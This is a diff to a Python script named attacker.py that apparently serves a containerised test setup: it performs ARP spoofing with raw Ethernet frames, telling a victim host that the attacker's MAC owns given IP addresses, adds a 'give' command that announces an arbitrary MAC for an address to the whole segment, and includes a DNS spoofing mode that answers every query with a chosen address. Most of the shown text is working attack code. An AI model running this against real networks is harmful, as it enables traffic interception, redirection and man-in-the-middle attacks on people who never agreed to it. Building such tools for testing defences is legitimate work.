@@ -1,6 +1,7 @@
 """Runs inside a container beside the site: claims addresses that are others', and answers for DNS.
 
 `attacker.py arp VICTIM ADDRESS...`: tells VICTIM, until killed, that this machine has each ADDRESS.
+`attacker.py give VICTIM ADDRESS MAC`: tells the whole segment that MAC has ADDRESS, and ends.
 `attacker.py dns CLAIMED ADDRESS`: at CLAIMED, answers each question for an address (RFC 1035) with
 ADDRESS.
 """
@@ -19,18 +20,21 @@ ARP = 0x0806
 
 def arp(victim: str, *addresses: str) -> None:
     """Requests for VICTIM's address whose sender is ADDRESS: VICTIM notes the sender (RFC 826)."""
+    own = Path(f"/sys/class/net/{INTERFACE}/address").read_text()
+    while True:
+        for address in addresses:
+            ask(victim, address, own)
+        time.sleep(0.005)
+
+
+def ask(victim: str, address: str, mac: str) -> None:
+    """One such request, which names `mac` as the sender's."""
     own = bytes.fromhex(Path(f"/sys/class/net/{INTERFACE}/address").read_text().replace(":", ""))
     head = b"\xff" * 6 + own + struct.pack("!HHHBBH", ARP, 1, 0x0800, 6, 4, 1)
-    frames = [
-        head + own + socket.inet_aton(address) + bytes(6) + socket.inet_aton(victim)
-        for address in addresses
-    ]
+    sender = bytes.fromhex(mac.strip().replace(":", "")) + socket.inet_aton(address)
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
         wire.bind((INTERFACE, 0))
-        while True:
-            for frame in frames:
-                wire.send(frame)
-            time.sleep(0.005)
+        wire.send(head + sender + bytes(6) + socket.inet_aton(victim))
 
 
 def dns(claimed: str, address: str) -> None:
@@ -50,5 +54,9 @@ if __name__ == "__main__":
     command, *words = sys.argv[1:]
     if command == "arp":
         arp(*words)
+    elif command == "give":
+        for _ in range(3):
+            ask(*words)
+            time.sleep(0.2)  # longer than Linux holds on to a new entry (locktime)
     else:
         dns(*words)
